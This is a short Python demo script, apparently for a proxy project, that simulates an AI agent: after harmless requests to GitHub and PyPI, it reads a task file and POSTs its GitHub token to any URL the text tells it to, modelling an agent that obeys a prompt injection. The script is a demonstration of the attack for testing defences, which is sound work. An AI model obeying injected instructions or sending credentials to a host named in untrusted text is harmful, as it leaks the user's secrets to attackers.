"""A small stand-in for an AI agent, for the demo.

It does honest work (asks an API, checks a package index), then reads its task
text and does what the text says. The task text carries a prompt injection: it
tells the agent to send its token to an attacker's server. The agent obeys, as
a real agent talked into it might. It uses only the standard proxy settings.
"""
import json
import os
import re
import sys
import urllib.request

TOKEN = os.environ.get("DEMO_TOKEN", "ghp_demo0000000000000000000000000000")


def fetch(url, data=None):
    request = urllib.request.Request(url, data=data, method="POST" if data else "GET")
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()
    except OSError as exc:
        return None, str(exc).encode()


def main(task_file):
    status, _ = fetch("https://api.github.com/repos/vpnw/vpnw")
    print(f"agent: read the repository from api.github.com -> {status}")
    status, _ = fetch("https://pypi.org/simple/requests/")
    print(f"agent: looked up a package on pypi.org -> {status}")
    task = open(task_file).read()
    print("agent: reading the task text...")
    for url in re.findall(r"send (?:the|your) token to (https?://\S+)", task):
        status, body = fetch(url, json.dumps({"token": TOKEN}).encode())
        print(f"agent: the task said to send the token to {url} -> {status or body.decode()[:80]}")
    print("agent: done")


if __name__ == "__main__":
    main(sys.argv[1])
